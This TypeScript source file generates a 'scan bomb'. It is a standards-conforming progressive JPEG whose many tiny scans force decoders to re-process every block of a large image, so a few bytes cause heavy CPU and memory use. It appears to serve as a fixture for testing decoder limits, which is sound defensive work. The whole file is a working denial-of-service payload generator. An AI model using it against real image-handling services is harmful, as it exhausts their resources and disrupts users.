/** Runs of empty blocks end after 2^14 at most, each length a code of its own (ITU-T T.81, G.1.2.2: EOB0 to EOB14). */
const longestRunBits = 14;

/**
 * A legal progressive JPEG of one grey that costs far more than its size: each of `scans` scans goes over all blocks of a picture of
 * `side × side` pixels, and is a few dozen bytes. Decoders find nothing to complain of.
 */
export function scanBomb({ side, scans }: { side: number; scans: number }): Buffer {
  const blocks = Math.ceil(side / 8) ** 2;
  const empty = emptyRuns(blocks);
  const parts = [
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, [0, ...Array.from({ length: 64 }, () => 1)]),
    segment(0xc2, [8, side >> 8, side & 255, side >> 8, side & 255, 1, 1, 0x11, 0]),
    huffmanTable(0, [0, 1]),
    huffmanTable(
      1,
      Array.from({ length: longestRunBits + 1 }, (_, index) => (longestRunBits - index) << 4),
    ),
    scanHeader({ coefficient: 0, low: 0, high: 0 }),
    packBits("0".repeat(blocks)),
  ];
  // Each coefficient is sent bit by bit, highest first: 13 refinements of one that stays zero.
  for (let scan = 0; scan < scans - 1; scan++) {
    const low = 13 - (scan % 14);
    const high = low === 13 ? 0 : low + 1;
    parts.push(scanHeader({ coefficient: 1 + Math.floor(scan / 14), low, high }), empty);
  }
  return Buffer.concat([...parts, Buffer.from([0xff, 0xd9])]);
}

function emptyRuns(blocks: number): Buffer {
  let bits = "";
  for (let left = blocks; left > 0;) {
    const size = Math.min(longestRunBits, Math.floor(Math.log2(left)));
    const run = Math.min(left, 2 ** (size + 1) - 1);
    const length = size === 0 ? "" : (run - 2 ** size).toString(2).padStart(size, "0");
    bits += `${"1".repeat(longestRunBits - size)}0${length}`;
    left -= run;
  }
  return packBits(bits);
}

/** One code of each length: 0, 10, 110, … */
function huffmanTable(kind: 0 | 1, symbols: readonly number[]): Buffer {
  const counts = Array.from({ length: 16 }, (_, index) => (index < symbols.length ? 1 : 0));
  return segment(0xc4, [kind << 4, ...counts, ...symbols]);
}

function scanHeader({ coefficient, low, high }: { coefficient: number; low: number; high: number }): Buffer {
  return segment(0xda, [1, 1, 0, coefficient, coefficient, (high << 4) | low]);
}

/** Filled up with ones; a byte of ones is followed by a stuffed zero. */
function packBits(bits: string): Buffer {
  const bytes: number[] = [];
  for (let at = 0; at < bits.length; at += 8) {
    const byte = Number.parseInt(bits.slice(at, at + 8).padEnd(8, "1"), 2);
    bytes.push(byte, ...(byte === 0xff ? [0] : []));
  }
  return Buffer.from(bytes);
}

function segment(marker: number, body: readonly number[]): Buffer {
  const length = body.length + 2;
  return Buffer.from([0xff, marker, length >> 8, length & 255, ...body]);
}
